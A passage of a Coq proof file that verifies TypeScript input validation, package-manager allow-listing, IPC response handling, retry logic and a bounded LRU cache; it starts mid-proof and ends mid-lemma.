Proof.
  assert (Hv : valid (validatePackageName (lit " @types/node ")) = true)
    by reflexivity.
  assert (Hb : In (lit "npm") CommandValidator.ALLOWED_COMMANDS)
    by (apply includes_In; reflexivity).
  assert (Ho : Forall (fun t => safe_token t = true)
                 [lit "install"; lit "--save-dev"]).
  { constructor; [reflexivity |]. constructor; [reflexivity | constructor]. }
  split; [exact Hv |]. split; [exact Hb |]. split; [exact Ho |].
  exact (validatePackageName_feeds_validateCommand (lit " @types/node ")
           (lit "npm") [lit "install"; lit "--save-dev"] Hv Hb Ho).
Defined.

End ValidatedValues.

(* ===================================================================== *)
(** * inputValidator.ts: package managers                                 *)
(* ===================================================================== *)

Section PackageManagerFacts.

Import InputValidator PackageManagers.

(** The case mapping of the engine. *)
Variable toLowerCase : jsstring -> jsstring.

Lemma validatePackageManager_cases (s : jsstring) :
  validatePackageManager toLowerCase s =
  match trim s with
  | [] => reject ERR_MANAGER_EMPTY
  | _ => if includes VALID_PACKAGE_MANAGERS (toLowerCase (trim s))
         then accept (toLowerCase (trim s))
         else reject (ERR_MANAGER_INVALID
                      ++ join (lit ", ") VALID_PACKAGE_MANAGERS)
  end.
Proof.
  unfold validatePackageManager. destruct (trim s); reflexivity.
Qed.

Lemma managers_allowed (m : jsstring) :
  In m VALID_PACKAGE_MANAGERS -> In m CommandValidator.ALLOWED_COMMANDS.
Proof.
  intros H. apply includes_In.
  assert (G : forallb (includes CommandValidator.ALLOWED_COMMANDS)
                VALID_PACKAGE_MANAGERS = true) by reflexivity.
  rewrite forallb_forall in G. auto.
Qed.

(** X7 (package managers).
    [validatePackageManager] rejects blank input and returns nothing but
    [npm], [pip] or [composer], each of them an allow-listed command; with
    a case mapping that lower-cases ASCII letters, as [toLowerCase] does,
    an ASCII input is accepted exactly when, trimmed, it spells one of the
    three names in any letter case. *)
Theorem validatePackageManager_closed (s : jsstring) :
  (forall t, isAscii t = true -> toLowerCase t = asciiLower t) ->
  (forallb isWhiteSpace s = true ->
   validatePackageManager toLowerCase s = reject ERR_MANAGER_EMPTY)
  /\ (valid (validatePackageManager toLowerCase s) = true ->
      validatePackageManager toLowerCase s = accept (toLowerCase (trim s))
      /\ In (toLowerCase (trim s)) VALID_PACKAGE_MANAGERS
      /\ In (toLowerCase (trim s)) CommandValidator.ALLOWED_COMMANDS)
  /\ (isAscii (trim s) = true ->
      (valid (validatePackageManager toLowerCase s) = true
       <-> In (asciiLower (trim s)) VALID_PACKAGE_MANAGERS)).
Proof.
  intros Hlower. rewrite validatePackageManager_cases. split; [| split].
  - intros H. apply trim_nil_iff in H. rewrite H. reflexivity.
  - destruct (trim s) as [|c r] eqn:Et; [discriminate |].
    destruct (includes VALID_PACKAGE_MANAGERS (toLowerCase (c :: r))) eqn:Hi;
      [| discriminate].
    intros _. apply includes_In in Hi.
    split; [reflexivity |]. split; [exact Hi |].
    apply managers_allowed; exact Hi.
  - intros Ha. rewrite <- (Hlower _ Ha), <- includes_In.
    destruct (trim s) as [|c r] eqn:Et.
    + rewrite (Hlower [] eq_refl). split; discriminate.
    + destruct (includes VALID_PACKAGE_MANAGERS (toLowerCase (c :: r)));
        split; (reflexivity || discriminate).
Qed.

End PackageManagerFacts.

Lemma validatePackageManager_closed_witness :
  (forall t, PackageManagers.isAscii t = true ->
             PackageManagers.asciiLower t = PackageManagers.asciiLower t)
  /\ PackageManagers.validatePackageManager PackageManagers.asciiLower
       (lit "  Composer ")
     = InputValidator.accept (lit "composer").
Proof.
  assert (H : forall t, PackageManagers.isAscii t = true ->
                        PackageManagers.asciiLower t
                        = PackageManagers.asciiLower t)
    by (intros; reflexivity).
  split; [exact H |].
  exact (proj1 (proj1 (proj2 (validatePackageManager_closed
                                PackageManagers.asciiLower
                                (lit "  Composer ") H)) eq_refl)).
Defined.

(* ===================================================================== *)
(** * ipcResponse.ts                                                      *)
(* ===================================================================== *)

Section ResponseFacts.

Import IPCResponse.

Context {T : Type}.

(** X8 (unwrapping a response).
    [unwrapResponse] undoes the two constructors: it returns the data of a
    success response and throws the message and code of an error response.
    A success response whose data is [undefined] is not a success for it:
    it is thrown as [Unknown error] with no code.  In general the data [x]
    is returned exactly when [success] holds and [data] is [x], and no
    response is both a success and an error response. *)
Theorem unwrapResponse_round_trip (now : Z) (d : T) (c : IPCErrorCode)
  (msg : jsstring) (det : option jsvalue) (r : IPCResponse T) :
  unwrapResponse (createSuccessResponse now (Some d)) = inr d
  /\ unwrapResponse (@createErrorResponse T now c msg det)
     = inl {| errorMessage := msg; errorCode := Some c |}
  /\ unwrapResponse (@createSuccessResponse T now None)
     = inl {| errorMessage := lit "Unknown error"; errorCode := None |}
  /\ (forall x, unwrapResponse r = inr x
                <-> success r = true /\ data r = Some x)
  /\ isSuccessResponse r && isErrorResponse r = false.
Proof.
  split; [reflexivity |]. split; [reflexivity |]. split; [reflexivity |].
  split.
  - intros x. unfold unwrapResponse, isSuccessResponse. split.
    + destruct (success r), (data r); simpl; intros H;
        try discriminate H. injection H as ->. auto.
    + intros [Hs Hd]. rewrite Hs, Hd. reflexivity.
  - unfold isSuccessResponse, isErrorResponse.
    destruct (success r); simpl; [apply andb_false_r | reflexivity].
Qed.

End ResponseFacts.

(* ===================================================================== *)
(** * ipcClientWithTimeout.ts                                             *)
(* ===================================================================== *)

Section NumberFacts.

Import IPCClient.


(** No whole number from [0] on is below a negative number. *)
Lemma whole_lt_negative (n : Z) (m : positive) (e : Z) :
  (0 <= n)%Z -> whole_lt n (S754_finite true m e) = false.
Proof.
  intros Hn. unfold whole_lt. destruct (0 <=? e)%Z eqn:He; apply Z.ltb_ge.
  - apply Z.leb_le in He.
    assert (0 < 2 ^ e)%Z by (apply Z.pow_pos_nonneg; lia). nia.
  - apply Z.leb_gt in He.
    assert (0 < 2 ^ (- e))%Z by (apply Z.pow_pos_nonneg; lia). nia.
Qed.

(** Rounding keeps the sign: what a negative value rounds to is not
    above a whole number from [0] on. *)
Lemma whole_lt_round_negative (n : Z) (m : positive) (e : Z) :
  (0 <= n)%Z -> whole_lt n (binary_round 53 1024 true m e) = false.
Proof.
  intros Hn. unfold binary_round.
  destruct (shl_align m e _) as [mz ez]. unfold binary_round_aux.
  destruct (shr_fexp 53 1024 (Z.pos mz) ez loc_Exact) as [mrs' e'].
  destruct (shr_fexp 53 1024 _ e' loc_Exact) as [mrs'' e''].
  destruct (shr_m mrs'') as [|p|p].
  - simpl. apply Z.ltb_ge. exact Hn.
  - destruct (e'' <=? 1024 - 53)%Z.
    + apply whole_lt_negative. exact Hn.
    + reflexivity.
  - reflexivity.
Qed.

Lemma iter_xO_value (m d : positive) :
  Z.pos (Pos.iter xO m d) = (Z.pos m * 2 ^ Z.pos d)%Z.
Proof.
  induction d as [|d IH] using Pos.peano_ind.
  - simpl. lia.
  - rewrite Pos.iter_succ, Pos2Z.inj_succ, Z.pow_succ_r by lia.
    rewrite Pos2Z.inj_xO, IH. ring.
Qed.

(** Aligning a mantissa to a smaller exponent keeps the value. *)
Lemma shl_align_value (m : positive) (e e' : Z) :
  (e' <= e)%Z ->
  Z.pos (fst (shl_align m e e')) = (Z.pos m * 2 ^ (e - e'))%Z.
Proof.
  intros Hle. unfold shl_align.
  destruct (e' - e)%Z as [|d|d] eqn:E.
  - replace (e - e')%Z with 0%Z by lia. simpl. lia.
  - lia.
  - simpl fst. rewrite iter_xO_value. f_equal. f_equal. lia.
Qed.

(** [retries + 1] is not above [0] when [retries] is not above [-1]. *)
Lemma retries_plus_one (x : spec_float) :
  whole_lt (-1) x = false -> whole_lt 0 (number_add x one) = false.
Proof.
  destruct x as [s | s | | s m e].
  - intros H. discriminate H.
  - destruct s; intros H; [reflexivity | discriminate H].
  - reflexivity.
  - intros H. unfold whole_lt in H. destruct s.
    2:{ exfalso. destruct (0 <=? e)%Z eqn:He.
        - apply Z.leb_le in He. apply Z.ltb_ge in H.
          assert (0 < 2 ^ e)%Z by (apply Z.pow_pos_nonneg; lia). nia.
        - apply Z.leb_gt in He. apply Z.ltb_ge in H.
          assert (0 < 2 ^ (- e))%Z by (apply Z.pow_pos_nonneg; lia). nia. }
    unfold number_add, one.
    change (of_pos 1) with (S754_finite false 4503599627370496 (-52)).
    unfold SFadd.
    set (ez := Z.min e (-52)).
    assert (Hez : (ez <= e /\ ez <= -52)%Z) by (unfold ez; lia).
    unfold cond_Zopp.
    assert (Hsum :
      (- Z.pos (fst (shl_align m e ez))
       + Z.pos (fst (shl_align 4503599627370496 (-52) ez)) <= 0)%Z).
    { rewrite !shl_align_value by lia.
      change (Z.pos 4503599627370496) with (2 ^ 52)%Z.
      rewrite <- Z.pow_add_r by lia.
      replace (52 + (-52 - ez))%Z with (- ez)%Z by lia.
      assert (HB : (0 < 2 ^ (- ez))%Z) by (apply Z.pow_pos_nonneg; lia).
      destruct (0 <=? e)%Z eqn:He.
      - apply Z.leb_le in He.
        replace (e - ez)%Z with (e + - ez)%Z by lia.
        rewrite Z.pow_add_r by lia.
        assert (HA : (0 < 2 ^ e)%Z) by (apply Z.pow_pos_nonneg; lia).
        generalize dependent (2 ^ e)%Z. generalize dependent (2 ^ (- ez))%Z.
        intros B HB A _ HA.
        assert (B <= A * B)%Z by nia.
        assert (A * B <= Z.pos m * (A * B))%Z by nia. lia.
      - apply Z.leb_gt in He. apply Z.ltb_ge in H.
        replace (- ez)%Z with (- e + (e - ez))%Z by lia.
        rewrite Z.pow_add_r by lia.
        assert (HC : (0 < 2 ^ (e - ez))%Z) by (apply Z.pow_pos_nonneg; lia).
        generalize dependent (2 ^ (- e))%Z.
        generalize dependent (2 ^ (e - ez))%Z.
        intros C HC A H. nia. }
    destruct (- Z.pos (fst (shl_align m e ez))
              + Z.pos (fst (shl_align 4503599627370496 (-52) ez)))%Z
      as [|p|p] eqn:E.
    + reflexivity.
    + lia.
    + apply whole_lt_round_negative. lia.
Qed.

End NumberFacts.

Section WholeNumbers.

Import IPCClient.

(** *** Doubles that hold whole numbers *)











End WholeNumbers.

Section RetryFacts.

Import IPCClient.

Context {T : Type}.

Variable attempt : nat -> settled T.
Variable channel : jsstring.




(** X10 (no attempt).
    When [retries] is not above [-1], that is [-1] or less, or [NaN],
    [invokeFunction] is never called: the statement after the loop is
    reached and the call is rejected with the failed-after-attempts
    error. *)
Theorem invokeWithTimeout_no_attempt (options : IPCCallOptions)
  (fuel : nat) :
  whole_lt (-1) (orDefault (retries options) zero) = false ->
  0 < fuel ->
  invokeWithTimeout fuel attempt channel options
  = Some (Rejected (AttemptsError channel (maxAttempts options)), []).
Proof.
  intros Hr Hfuel. unfold invokeWithTimeout.
  destruct fuel as [|fuel]; [lia |]. cbn [retryLoop].
  unfold maxAttempts at 1. change (Z.of_nat 0) with 0%Z.
  rewrite (retries_plus_one _ Hr). reflexivity.
Qed.

End RetryFacts.


Lemma invokeWithTimeout_no_attempt_witness :
  IPCClient.invokeWithTimeout 1 (fun _ : nat => IPCClient.Resolved 7%Z)
    (lit "tools:detect-all")
    {| IPCClient.timeout := None; IPCClient.retries := Some minus_one;
       IPCClient.retryDelay := None |}
  = Some (IPCClient.Rejected
            (IPCClient.AttemptsError (lit "tools:detect-all") zero), []).
Proof.
  apply (invokeWithTimeout_no_attempt (fun _ : nat => IPCClient.Resolved 7%Z)
           (lit "tools:detect-all")
           {| IPCClient.timeout := None; IPCClient.retries := Some minus_one;
              IPCClient.retryDelay := None |} 1 eq_refl).
  lia.
Defined.

(* ===================================================================== *)
(** * cacheManager.ts: the map under the cache                            *)
(* ===================================================================== *)

Section MapFacts.

Import LRUCache.

Context {K V : Type}.

Variable key_eq_dec : forall a b : K, {a = b} + {a <> b}.

Local Abbreviation Entry := (@CacheEntry V).
Local Abbreviation JMap := (@JSMap K V).

Implicit Types (m : JMap) (e : Entry) (k key : K).

Lemma Map_get_In key m e :
  Map_get key_eq_dec key m = Some e -> In key (map fst m).
Proof.
  induction m as [|[k e'] m IH]; simpl; [discriminate |].
  destruct (key_eq_dec key k); [left; congruence | right; auto].
Qed.

Lemma Map_has_In key m :
  Map_has key_eq_dec key m = true <-> In key (map fst m).
Proof.
  unfold Map_has. split.
  - destruct (Map_get key_eq_dec key m) eqn:E; [| discriminate].
    intros _. eapply Map_get_In; eauto.
  - induction m as [|[k e'] m IH]; simpl; [contradiction |].
    destruct (key_eq_dec key k); [reflexivity |].
    intros [H | H]; [congruence | auto].
Qed.

Lemma Map_has_false key m :
  Map_has key_eq_dec key m = false <-> ~ In key (map fst m).
Proof.
  rewrite <- Map_has_In. destruct (Map_has key_eq_dec key m); split;
    congruence.
Qed.

Lemma Map_delete_length key m :
  List.length (Map_delete key_eq_dec key m)
  = if Map_has key_eq_dec key m then pred (List.length m) else List.length m.
Proof.
  unfold Map_has. induction m as [|[k e'] m IH]; simpl; [reflexivity |].
  destruct (key_eq_dec key k); [reflexivity |]. simpl. rewrite IH.
  destruct (Map_get key_eq_dec key m) eqn:E; [| reflexivity].
  destruct m; [discriminate | reflexivity].
Qed.

Lemma Map_delete_keys key m k :
  In k (map fst (Map_delete key_eq_dec key m)) -> In k (map fst m).
Proof.
  induction m as [|[k' e'] m IH]; simpl; [auto |].
  destruct (key_eq_dec key k'); [auto |]. simpl. tauto.
Qed.

Lemma Map_delete_absent key m :
  ~ In key (map fst m) -> Map_delete key_eq_dec key m = m.
Proof.
  induction m as [|[k e'] m IH]; simpl; [reflexivity |].
  intros H. destruct (key_eq_dec key k); [exfalso; apply H; left; congruence |].
  rewrite IH by tauto. reflexivity.
Qed.

Lemma Map_delete_NoDup key m :
  NoDup (map fst m) ->
  NoDup (map fst (Map_delete key_eq_dec key m))
  /\ ~ In key (map fst (Map_delete key_eq_dec key m)).
Proof.
  induction m as [|[k e'] m IH]; simpl; intros H.
  - split; [constructor | tauto].
  - inversion H as [|? ? Hk Hm]; subst.
    destruct (key_eq_dec key k) as [-> | Hne].
    + split; assumption.
    + destruct (IH Hm) as [IH1 IH2]. simpl. split.
      * constructor; [| assumption].
        intros Hin. apply Hk. eapply Map_delete_keys; eauto.
      * intros [E | Hin]; [congruence | auto].
Qed.

Lemma Map_delete_remove key m :
  NoDup (map fst m) ->
  map fst (Map_delete key_eq_dec key m) = remove key_eq_dec key (map fst m).
Proof.
  induction m as [|[k e'] m IH]; simpl; [reflexivity |].
  intros H. inversion H as [|? ? Hk Hm]; subst.
  destruct (key_eq_dec key k) as [-> | Hne].
  - symmetry. apply notin_remove. assumption.
  - simpl. rewrite IH by assumption. reflexivity.
Qed.

Lemma Map_set_absent key e m :
  ~ In key (map fst m) -> Map_set key_eq_dec key e m = m ++ [(key, e)].
Proof.
  induction m as [|[k e'] m IH]; simpl; [reflexivity |].
  intros H. destruct (key_eq_dec key k); [exfalso; apply H; left; congruence |].
  rewrite IH by tauto. reflexivity.
Qed.

Lemma Map_set_length key e m :
  List.length (Map_set key_eq_dec key e m)
  = if Map_has key_eq_dec key m then List.length m else S (List.length m).
Proof.
  unfold Map_has. induction m as [|[k e'] m IH]; simpl; [reflexivity |].
  destruct (key_eq_dec key k); [reflexivity |]. simpl. rewrite IH.
  destruct (Map_get key_eq_dec key m); reflexivity.
Qed.

Lemma Map_set_keys key e m k :
  In k (map fst (Map_set key_eq_dec key e m)) ->
  k = key \/ In k (map fst m).
Proof.
  induction m as [|[k' e'] m IH]; simpl.
  - intros [H | []]. auto.
  - destruct (key_eq_dec key k'); simpl; intros [H | H]; auto.
    destruct (IH H); auto.
Qed.

Lemma Map_set_NoDup key e m :
  NoDup (map fst m) -> NoDup (map fst (Map_set key_eq_dec key e m)).
Proof.
  induction m as [|[k e'] m IH]; simpl; intros H.
  - constructor; [tauto | constructor].
  - inversion H as [|? ? Hk Hm]; subst.
    destruct (key_eq_dec key k) as [-> | Hne]; simpl.
    + constructor; assumption.
    + constructor; [| auto]. intros Hin.
      destruct (Map_set_keys _ _ _ _ Hin); [congruence | auto].
Qed.

Lemma Map_get_set_same key e m :
  Map_get key_eq_dec key (Map_set key_eq_dec key e m) = Some e.
Proof.
  induction m as [|[k e'] m IH]; simpl.
  - destruct (key_eq_dec key key); [reflexivity | congruence].
  - destruct (key_eq_dec key k) as [E | Hne]; simpl.
    + destruct (key_eq_dec key key); [reflexivity | congruence].
    + destruct (key_eq_dec key k); [congruence | exact IH].
Qed.

Lemma Map_get_set_other key e m k :
  k <> key ->
  Map_get key_eq_dec k (Map_set key_eq_dec key e m) = Map_get key_eq_dec k m.
Proof.
  intros Hne. induction m as [|[k' e'] m IH]; simpl.
  - destruct (key_eq_dec k key); [congruence | reflexivity].
  - destruct (key_eq_dec key k') as [<- | Hk]; simpl.
    + destruct (key_eq_dec k key); [congruence | reflexivity].
    + destruct (key_eq_dec k k'); [reflexivity | exact IH].
Qed.

Lemma Map_get_delete_other key m k :
  k <> key ->
  Map_get key_eq_dec k (Map_delete key_eq_dec key m) = Map_get key_eq_dec k m.
Proof.
  intros Hne. induction m as [|[k' e'] m IH]; simpl; [reflexivity |].
  destruct (key_eq_dec key k') as [<- | Hk]; simpl.
  - destruct (key_eq_dec k key); [congruence | reflexivity].
  - destruct (key_eq_dec k k'); [reflexivity | exact IH].
Qed.

Lemma Map_get_absent key m :
  ~ In key (map fst m) -> Map_get key_eq_dec key m = None.
Proof.
  intros H. destruct (Map_get key_eq_dec key m) eqn:E; [| reflexivity].
  exfalso. apply H. eapply Map_get_In; eauto.
Qed.

Lemma filter_keys (f : K * Entry -> bool) m k :
  In k (map fst (filter f m)) -> In k (map fst m).
Proof.
  rewrite !in_map_iff. intros (x & E & Hx). apply filter_In in Hx.
  exists x. tauto.
Qed.

Lemma filter_NoDup (f : K * Entry -> bool) m :
  NoDup (map fst m) -> NoDup (map fst (filter f m)).
Proof.
  induction m as [|[k e'] m IH]; simpl; intros H; [constructor |].
  inversion H as [|? ? Hk Hm]; subst.
  destruct (f (k, e')); simpl; [| auto].
  constructor; [| auto]. intros Hin. apply Hk. eapply filter_keys; eauto.
Qed.

(** Looking up a key after filtering the entries by their values. *)
Lemma Map_get_filter (f : Entry -> bool) key m :
  NoDup (map fst m) ->
  Map_get key_eq_dec key (filter (fun kv => f (snd kv)) m)
  = match Map_get key_eq_dec key m with
    | Some e => if f e then Some e else None
    | None => None
    end.
Proof.
  induction m as [|[k e'] m IH]; simpl; [reflexivity |].
  intros H. inversion H as [|? ? Hk Hm]; subst.
  destruct (key_eq_dec key k) as [-> | Hne].
  - destruct (f e') eqn:Hf; simpl.
    + destruct (key_eq_dec k k); [reflexivity | congruence].
    + apply Map_get_absent. intros Hin. apply Hk. eapply filter_keys; eauto.
  - destruct (f e'); simpl; [| auto].
    destruct (key_eq_dec key k); [congruence | auto].
Qed.

End MapFacts.

(* ===================================================================== *)
(** * cacheManager.ts: the bounded LRU cache                              *)
(* ===================================================================== *)

Section CacheFacts.

Import LRUCache.

Context {K V : Type}.

Variable key_eq_dec : forall a b : K, {a = b} + {a <> b}.
Variable isUndefined : K -> bool.

Local Abbreviation Cache := (@BoundedLRUCache K V).
Local Abbreviation Op := (@operation K V).
Local Abbreviation wf := (wellFormed isUndefined).
Local Abbreviation cset := (set key_eq_dec isUndefined).
Local Abbreviation cget := (get key_eq_dec).
Local Abbreviation chas := (has key_eq_dec).
Local Abbreviation cdelete := (delete key_eq_dec).
Local Abbreviation crun := (run key_eq_dec isUndefined).

Implicit Types (c : Cache) (key k : K) (v : V) (now : Z).

Lemma sizeQ_succ (n : nat) : (sizeQ (S n) == sizeQ n + 1)%Q.
Proof.
  unfold sizeQ. rewrite Nat2Z.inj_succ. unfold Z.succ.
  rewrite inject_Z_plus. reflexivity.
Qed.

Lemma sizeQ_le (n m : nat) : n <= m -> (sizeQ n <= sizeQ m)%Q.
Proof. intros H. unfold sizeQ. rewrite <- Zle_Qle. lia. Qed.

Lemma atCapacity_true c (m : @JSMap K V) :
  atCapacity c m = true <-> (maxSize c <= sizeQ (List.length m))%Q.
Proof. unfold atCapacity. apply Qle_bool_iff. Qed.

Lemma atCapacity_false c (m : @JSMap K V) :
  atCapacity c m = false <-> (sizeQ (List.length m) < maxSize c)%Q.
Proof.
  rewrite <- not_true_iff_false, atCapacity_true. split.
  - apply Qnot_le_lt.
  - apply Qlt_not_le.
Qed.

Lemma isExpired_true c now (e : @CacheEntry V) :
  isExpired c now e = true
  <-> (maxAge c < inject_Z (now - timestamp e))%Q.
Proof.
  unfold isExpired. rewrite negb_true_iff, <- not_true_iff_false.
  rewrite Qle_bool_iff. split; [apply Qnot_le_lt | apply Qlt_not_le].
Qed.

Lemma isExpired_false c now (e : @CacheEntry V) :
  isExpired c now e = false
  <-> (inject_Z (now - timestamp e) <= maxAge c)%Q.
Proof.
  unfold isExpired. rewrite negb_false_iff. apply Qle_bool_iff.
Qed.

(** A map with fewer entries, among the keys of the cache, keeps the
    cache well formed. *)
Lemma wf_shrink c (m : @JSMap K V) :
  wf c -> NoDup (map fst m) ->
  (forall k, In k (map fst m) -> In k (keys c)) ->
  List.length m <= size c ->
  wf (withCache c m).
Proof.
  intros (Hpos & Hsize & Hdef & Hnd) Hm Hsub Hlen.
  unfold wellFormed, size, keys in *. cbn [withCache cache maxSize].
  repeat split; auto.
  - pose proof (sizeQ_le _ _ Hlen). lra.
  - rewrite Forall_forall in *. auto.
Qed.

Lemma wf_set c now key v :
  wf c -> isUndefined key = false -> wf (cset now key v c).
Proof.
  intros (Hpos & Hsize & Hdef & Hnd) Hkey.
  unfold wellFormed, size, keys in *. unfold set.
  set (m1 := if Map_has key_eq_dec key (cache c)
             then Map_delete key_eq_dec key (cache c) else cache c).
  assert (H1 : NoDup (map fst m1) /\ ~ In key (map fst m1)
               /\ (forall k, In k (map fst m1) -> In k (map fst (cache c)))
               /\ List.length m1 <= List.length (cache c)).
  { subst m1. destruct (Map_has key_eq_dec key (cache c)) eqn:Hh.
    - destruct (Map_delete_NoDup key_eq_dec key (cache c) Hnd).
      repeat split; auto.
      + intros k. apply Map_delete_keys.
      + rewrite Map_delete_length, Hh. lia.
    - apply Map_has_false in Hh. repeat split; auto. }
  destruct H1 as (Hnd1 & Hout1 & Hsub1 & Hlen1).
  set (m2 := if atCapacity c m1
             then match Map_firstKey m1 with
                  | Some oldestKey =>
                      if isUndefined oldestKey then m1
                      else Map_delete key_eq_dec oldestKey m1
                  | None => m1
                  end
             else m1).
  assert (H2 : NoDup (map fst m2) /\ ~ In key (map fst m2)
               /\ (forall k, In k (map fst m2) -> In k (map fst m1))
               /\ (sizeQ (List.length m2) < maxSize c)%Q).
  { subst m2. destruct (atCapacity c m1) eqn:Hcap.
    - apply atCapacity_true in Hcap.
      destruct m1 as [|[k0 e0] rest] eqn:Em1.
      + simpl. repeat split; auto.
      + cbn [Map_firstKey].
        assert (Hk0 : isUndefined k0 = false).
        { rewrite Forall_forall in Hdef. apply Hdef, Hsub1. left. reflexivity. }
        rewrite Hk0. cbn [Map_delete].
        destruct (key_eq_dec k0 k0) as [_ | Hne]; [| congruence].
        inversion Hnd1; subst. repeat split; auto.
        * intros Hin. apply Hout1. right. exact Hin.
        * intros k Hin. right. exact Hin.
        * simpl in Hlen1. pose proof (sizeQ_le _ _ Hlen1) as Hle.
          rewrite sizeQ_succ in Hle. lra.
    - apply atCapacity_false in Hcap. repeat split; auto. }
  destruct H2 as (Hnd2 & Hout2 & Hsub2 & Hlen2).
  cbn [withCache cache maxSize].
  rewrite (Map_set_absent key_eq_dec key _ m2 Hout2).
  repeat split; auto.
  - rewrite length_app. simpl. rewrite Nat.add_1_r, sizeQ_succ. lra.
  - rewrite map_app. apply Forall_app. split.
    + rewrite Forall_forall in *. auto.
    + constructor; [exact Hkey | constructor].
  - rewrite <- (Map_set_absent key_eq_dec key _ m2 Hout2).
    apply Map_set_NoDup. exact Hnd2.
Qed.

Lemma wf_get c now key : wf c -> wf (snd (cget now key c)).
Proof.
  intros Hwf. pose proof Hwf as (Hpos & Hsize & Hdef & Hnd).
  unfold get. destruct (Map_get key_eq_dec key (cache c)) as [e|] eqn:Eg;
    [| exact Hwf].
  pose proof (Map_get_In key_eq_dec key _ _ Eg) as Hin.
  apply (Map_has_In key_eq_dec) in Hin.
  destruct (Map_delete_NoDup key_eq_dec key (cache c) Hnd) as [Hnd' Hout].
  destruct (isExpired c now e); cbn [snd].
  - apply wf_shrink; auto.
    + intros k. apply Map_delete_keys.
    + unfold size. rewrite Map_delete_length, Hin. lia.
  - apply wf_shrink; auto.
    + apply Map_set_NoDup. exact Hnd'.
    + intros k Hk. apply Map_set_keys in Hk. destruct Hk as [-> | Hk].
      * apply (Map_has_In key_eq_dec). exact Hin.
      * eapply Map_delete_keys; eauto.
    + unfold size. rewrite (Map_set_absent key_eq_dec key e _ Hout).
      rewrite length_app, Map_delete_length, Hin. simpl.
      apply (Map_has_In key_eq_dec) in Hin.
      destruct (cache c); [contradiction | simpl; lia].
Qed.

Lemma wf_perform c (op : Op) :
  wf c ->
  match storedKey op with
  | Some k => isUndefined k = false
  | None => True
  end ->
  wf (perform key_eq_dec isUndefined c op).
Proof.
  intros Hwf Hop. pose proof Hwf as (Hpos & Hsize & Hdef & Hnd).
  destruct op as [now key | now key v | key | | now]; cbn [perform].
  - apply wf_get; assumption.
  - apply wf_set; assumption.
  - cbn [delete snd]. apply wf_shrink; auto.
    + apply Map_delete_NoDup. exact Hnd.
    + intros k. apply Map_delete_keys.
    + unfold size. rewrite Map_delete_length.
      destruct (Map_has key_eq_dec key (cache c)); lia.
  - unfold clear. apply wf_shrink; auto.
    + constructor.
    + intros k [].
    + simpl. lia.
  - unfold cleanup. apply wf_shrink; auto.
    + apply filter_NoDup. exact Hnd.
    + intros k. apply filter_keys.
    + unfold size. apply filter_length_le.
Qed.

Lemma perform_maxSize c (op : Op) :
  maxSize (perform key_eq_dec isUndefined c op) = maxSize c.
Proof.
  destruct op; cbn [perform]; try reflexivity.
  unfold get. destruct (Map_get key_eq_dec key (cache c)); [| reflexivity].
  destruct (isExpired c now c0); reflexivity.
Qed.

Lemma run_wf (ops : list Op) c :
  wf c -> definedKeys isUndefined ops ->
  wf (crun ops c) /\ maxSize (crun ops c) = maxSize c.
Proof.
  revert c. induction ops as [|op ops IH]; intros c Hwf Hops.
  - split; [exact Hwf | reflexivity].
  - inversion Hops as [|? ? Hop Hrest]; subst. cbn [run fold_left].
    destruct (IH (perform key_eq_dec isUndefined c op)) as [H1 H2].
    + apply wf_perform; assumption.
    + exact Hrest.
    + split; [exact H1 |]. unfold run in H2. rewrite H2.
      apply perform_maxSize.
Qed.

Lemma create_wf (ms ma : Q) c :
  create ms ma = inr c -> wf c /\ maxSize c = ms.
Proof.
  unfold create. destruct (Qle_bool ms 0) eqn:Hms; [discriminate |].
  destruct (Qle_bool ma 0); [discriminate |].
  intros E. injection E as <-. split; [| reflexivity].
  assert (Hpos : (0 < ms)%Q).
  { apply Qnot_le_lt. intros H. apply Qle_bool_iff in H. congruence. }
  unfold wellFormed, size, keys. cbn [cache maxSize List.length map].
  split; [exact Hpos |]. split; [| split; constructor].
  change (sizeQ 0) with (inject_Z 0). change (inject_Z 0) with 0%Q. lra.
Qed.

(** X11 (bounded size).
    The cache stays bounded: after any sequence of calls on a cache built
    by the constructor, none of which stores the key [undefined], the size
    is below [maxSize + 1], so at most [maxSize] when [maxSize] is a whole
    number, and no key is listed twice. *)
Theorem cache_size_bounded (ms ma : Q) c (ops : list Op) :
  create ms ma = inr c ->
  definedKeys isUndefined ops ->
  (sizeQ (size (crun ops c)) < ms + 1)%Q
  /\ (forall n : Z, (ms == inject_Z n)%Q ->
                    (Z.of_nat (size (crun ops c)) <= n)%Z)
  /\ NoDup (keys (crun ops c)).
Proof.
  intros Hc Hops. destruct (create_wf ms ma c Hc) as [Hwf Hms].
  destruct (run_wf ops c Hwf Hops) as [(Hpos & Hsize & _ & Hnd) Hmax].
  rewrite Hmax, Hms in Hsize. split; [exact Hsize |]. split; [| exact Hnd].
  intros n Hn. rewrite Hn in Hsize. unfold sizeQ in Hsize.
  change 1%Q with (inject_Z 1) in Hsize.
  rewrite <- inject_Z_plus, <- Zlt_Qlt in Hsize. lia.
Qed.

End CacheFacts.

Section CacheBehaviour.

Import LRUCache.

Context {K V : Type}.

Variable key_eq_dec : forall a b : K, {a = b} + {a <> b}.
Variable isUndefined : K -> bool.

Local Abbreviation Cache := (@BoundedLRUCache K V).
Local Abbreviation cset := (set key_eq_dec isUndefined).
Local Abbreviation cget := (get key_eq_dec).
Local Abbreviation chas := (has key_eq_dec).
Local Abbreviation cdelete := (delete key_eq_dec).
Local Abbreviation lookup := (Map_get key_eq_dec).

Implicit Types (c : Cache) (key k : K) (v : V) (now : Z).

Lemma Map_delete_last key (e : @CacheEntry V) (m : @JSMap K V) :
  ~ In key (map fst m) -> Map_delete key_eq_dec key (m ++ [(key, e)]) = m.
Proof.
  induction m as [|[k e'] m IH]; simpl; intros H.
  - destruct (key_eq_dec key key); [reflexivity | congruence].
  - destruct (key_eq_dec key k); [exfalso; apply H; left; congruence |].
    rewrite IH by tauto. reflexivity.
Qed.

Lemma Map_get_last key (e : @CacheEntry V) (m : @JSMap K V) :
  ~ In key (map fst m) -> lookup key (m ++ [(key, e)]) = Some e.
Proof.
  intros H. rewrite <- (Map_set_absent key_eq_dec key e m H).
  apply Map_get_set_same.
Qed.

(** The map left by the first two steps of [set]: the key removed, then
    the oldest entry when the cache is at capacity. *)
Lemma set_shape c now key v :
  NoDup (keys c) ->
  exists m2 : @JSMap K V,
    cache (cset now key v c) = m2 ++ [(key, {| value := v; timestamp := now |})]
    /\ ~ In key (map fst m2)
    /\ NoDup (map fst m2)
    /\ (forall k, In k (map fst m2) -> In k (keys c)).
Proof.
  intros Hnd. unfold set, keys in *.
  set (m1 := if Map_has key_eq_dec key (cache c)
